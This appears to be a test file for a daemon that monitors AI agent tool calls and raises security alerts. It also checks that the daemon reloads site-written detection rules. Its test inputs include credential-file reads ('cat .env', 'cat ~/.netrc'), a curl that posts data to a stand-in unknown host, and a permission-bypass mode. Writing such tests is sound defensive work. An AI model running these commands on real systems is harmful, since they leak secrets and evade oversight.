// A fresh install's own daemon raises what the sealed part of an event tells: its first person's key is younger than the daemon.
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as pause } from "node:timers/promises";
import { afterEach, beforeEach, describe, it } from "vitest";
import { viewLog } from "#record/store/log-view.ts";
import { BEGIN_MS } from "#surface/services/alerts/keep-alerted.ts";
import { preToolUse, sendTo } from "../../daemon/daemon-stand.ts";
import { type WholeDaemon, wholeDaemon } from "../../daemon/whole-daemon.ts";
import { type HookStand, openHookStand, UNHELD_POLICY } from "../../hook/hook-stand.ts";
import { until } from "../../../until.ts";

let stand: HookStand;
let daemon: WholeDaemon;
beforeEach(async () => {
  stand = await openHookStand("http", UNHELD_POLICY);
  daemon = await wholeDaemon(stand);
});
afterEach(async () => {
  await daemon.stop();
  stand.close();
});

type Fields = Readonly<Record<string, unknown>>;
const ask = (command: string, more: Fields = {}) => {
  const cwd = stand.project;
  return sendTo(
    stand.install,
    stand.token,
    preToolUse({ cwd, tool_input: { command }, tool_use_id: command, ...more }),
  );
};

async function recorded(kind: string, field: string): Promise<ReadonlySet<string>> {
  const { log, keys } = stand.install.directories;
  const found = new Set<string>();
  for await (const { leaf } of (await viewLog(log, keys)).entries(0, 10_000)) {
    const value = leaf.kind === "leaf" && leaf.metadata["kind"] === kind && leaf.metadata[field];
    if (typeof value === "string") found.add(value);
  }
  return found;
}
const alerted = () => recorded("alert", "what");

const detection = (id: string, file: string) => `title: A file of the site's own is read
id: 00000000-0000-4000-8000-${id.padStart(12, "0")}
status: test
description: A call reads ${file}.
date: 2026-11-29
tags: [attack.execution]
logsource: { product: sallyport, category: decision }
detection: { s: { sealed.reads|endswith: /${file} }, n: { sealed.reads: ${file} }, condition: s or n }
falsepositives: [none]
level: high
runbook: docs/runbooks/execution.md#x
requires: key
`;

const raised = (...rules: readonly string[]) =>
  until(`alerts ${rules.join(", ")}`, async () => {
    const found = await alerted();
    return rules.every((rule) => found.has(rule));
  });

// TIME: the daemon opens its view of the log with its first look, and nothing tells of that; nobody's key is there by then.
const looked = () => pause(BEGIN_MS + 1_500);

/** A site's detection that is written, spoiled and mended while the daemon runs. */
async function sawOwnDetections(): Promise<void> {
  const folder = join(stand.install.directories.root, "detections/execution");
  const file = join(folder, "readme-read.yml");
  mkdirSync(folder, { recursive: true });
  writeFileSync(file, detection("1", "readme.txt"));
  await seen("cat readme.txt", "execution/readme-read");
  writeFileSync(file, "title: half of a\n");
  await until("its failure is told", async () =>
    (await recorded("failure", "code")).has("not-detected-detection-invalid"),
  );
  await ask("cat ~/.netrc", { session_id: "while it is spoiled" });
  await raised("credential-access/secret-file-refused");
}

/** Asks until the alert is there: the daemon looks once a second for changed detections. */
const seen = (command: string, rule: string) =>
  until(
    `${rule} is raised`,
    async () => {
      await ask(command, { session_id: `s-${performance.now()}` });
      return (await alerted()).has(rule);
    },
    // WHY slowly: of many alerts in a minute only their number is told.
    { everyMs: 1_500 },
  );

describe("the daemon of a fresh install", () => {
  it("raises a read `.env`, bypass mode and an unknown host without a restart", async () => {
    await looked();
    await ask("cat .env");
    await ask("ls", { permission_mode: "bypassPermissions" });
    await ask("curl -d x=1 https://unknown-host.example/in");
    await raised(
      "credential-access/dotenv-read",
      "defense-evasion/bypass-mode",
      "command-and-control/unknown-host",
    );
  });

  it("has in force what the site changes of its detections, and keeps what it had where that is spoiled", async () => {
    await sawOwnDetections();
  });
});
